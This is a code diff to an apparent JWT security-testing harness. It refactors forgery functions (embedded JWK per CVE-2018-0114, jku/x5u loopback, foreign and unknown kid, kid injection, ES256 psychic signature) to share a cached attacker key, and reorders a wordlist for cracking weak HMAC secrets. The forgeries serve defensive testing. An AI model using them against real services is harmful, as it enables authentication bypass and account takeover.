@@ -18,7 +18,7 @@ from dataclasses import dataclass
 from typing import Any
 
 import jwt
-from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.hazmat.primitives.asymmetric import ec, rsa
 
 from harness.clerk.explain import decode_segment
 from harness.clerk.issuer import ActiveOrg, Issuer, new_key
@@ -206,10 +206,17 @@ def es256_psychic_signature(forge: Forge) -> str:
     return _unsigned({"alg": "ES256", "typ": "JWT", "kid": forge.issuer.kid}, forge.valid_claims(), _b64(bytes(64)))
 
 
+@functools.cache
+def attacker_key() -> rsa.RSAPrivateKey:
+    """The key every forgery that needs one signs with: made once per process (an RSA-2048 key costs a fifth of a
+    second), and trusted by no target, since no issuer ever publishes it."""
+    return new_key()
+
+
 @attack("CVE-2018-0114; RFC 8725 3.10")
 def embedded_jwk(forge: Forge) -> str:
     """Signed with the attacker's key, which the header's `jwk` carries."""
-    attacker = new_key()
+    attacker = attacker_key()
     public = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(attacker.public_key()))
     return jwt.encode(forge.valid_claims(), attacker, algorithm="RS256", headers={"jwk": public, "kid": "attacker"})
 
@@ -219,7 +226,7 @@ def jku_loopback(forge: Forge) -> str:
     """Signed with the attacker's key, its JWKS named by `jku` on a loopback listener (never to be fetched)."""
     return jwt.encode(
         forge.valid_claims(),
-        new_key(),
+        attacker_key(),
         algorithm="RS256",
         headers={"jku": f"{forge.listener}/jwks.json", "kid": "attacker"},
     )
@@ -230,7 +237,7 @@ def x5u_loopback(forge: Forge) -> str:
     """Signed with the attacker's key, its certificate named by `x5u` on a loopback listener (never fetched)."""
     return jwt.encode(
         forge.valid_claims(),
-        new_key(),
+        attacker_key(),
         algorithm="RS256",
         headers={"x5u": f"{forge.listener}/cert.pem", "kid": "attacker"},
     )
@@ -240,19 +247,19 @@ def x5u_loopback(forge: Forge) -> str:
 def foreign_key(forge: Forge) -> str:
     """A well-formed token signed by a key the target does not trust, under the trusted key's kid."""
     return jwt.encode(
-        forge.valid_claims(), new_key(), algorithm="RS256", headers={"kid": forge.issuer.kid, "typ": "JWT"}
+        forge.valid_claims(), attacker_key(), algorithm="RS256", headers={"kid": forge.issuer.kid, "typ": "JWT"}
     )
 
 
 @attack("RFC 8725 3.10")
 def unknown_kid(forge: Forge) -> str:
     """Signed by an untrusted key under a kid nobody issued."""
-    return jwt.encode(forge.valid_claims(), new_key(), algorithm="RS256", headers={"kid": "ins_" + "0" * 27})
+    return jwt.encode(forge.valid_claims(), attacker_key(), algorithm="RS256", headers={"kid": "ins_" + "0" * 27})
 
 
 def _kid_injection(name: str, kid: str) -> Callable[[Forge], str]:
     def build(forge: Forge) -> str:
-        return jwt.encode(forge.valid_claims(), new_key(), algorithm="RS256", headers={"kid": kid})
+        return jwt.encode(forge.valid_claims(), attacker_key(), algorithm="RS256", headers={"kid": kid})
 
     build.__name__ = f"kid_{name}"
     build.__doc__ = f"kid {kid!r}: a key id that reaches a file, a query or a shell where it should not"
@@ -364,19 +371,19 @@ _AFFIXED_WORDS = 5000  # the most common words get the patterns too; all of them
 
 @functools.cache
 def common_secrets() -> tuple[str, ...]:
-    """Every secret the offline search tries, most likely first: the tutorial defaults above, then zxcvbn's
-    frequency lists (30,000 common passwords, 30,000 English words, 19,000 from film and television, names and
-    surnames), then the most common of them with the usual affixes. Each is tried as written and capitalised."""
+    """Every secret the offline search tries, most likely first: the tutorial defaults above; the most common
+    passwords as they are, capitalised and with the usual affixes; then the rest of zxcvbn's frequency lists
+    (30,000 common passwords, 30,000 English words, 19,000 from film and television, names and surnames)."""
     from zxcvbn.frequency_lists import FREQUENCY_LISTS
 
     words = [w for name in ("passwords", "english_wikipedia", "us_tv_and_film", "female_names", "male_names",
                             "surnames") for w in FREQUENCY_LISTS.get(name, [])]  # fmt: skip
     found: dict[str, None] = dict.fromkeys(WEAK_SECRETS)
-    found.update(dict.fromkeys(words))
     for word in words[:_AFFIXED_WORDS]:
+        found.update(dict.fromkeys((word, word.capitalize())))
         found.update(dict.fromkeys(f"{word}{affix}" for affix in _SECRET_AFFIXES))
         found.update(dict.fromkeys(f"{prefix}{word}" for prefix in _SECRET_PREFIXES))
-    found.update(dict.fromkeys(w.capitalize() for w in words[:_AFFIXED_WORDS]))
+    found.update(dict.fromkeys(words))
     return tuple(found)
 
 
@@ -430,5 +437,5 @@ def login_forgeries(header: dict[str, Any], claims: dict[str, Any]) -> list[Prob
         *(Probe(f"weak_secret:{secret}", signed_hmac(secret)) for secret in WEAK_SECRETS),
     ]
     rsa_header = {k: v for k, v in header.items() if k not in {"alg", "typ"}}
-    probes.append(Probe("foreign_key", jwt.encode(claims, new_key(), algorithm="RS256", headers=rsa_header)))
+    probes.append(Probe("foreign_key", jwt.encode(claims, attacker_key(), algorithm="RS256", headers=rsa_header)))
     return probes
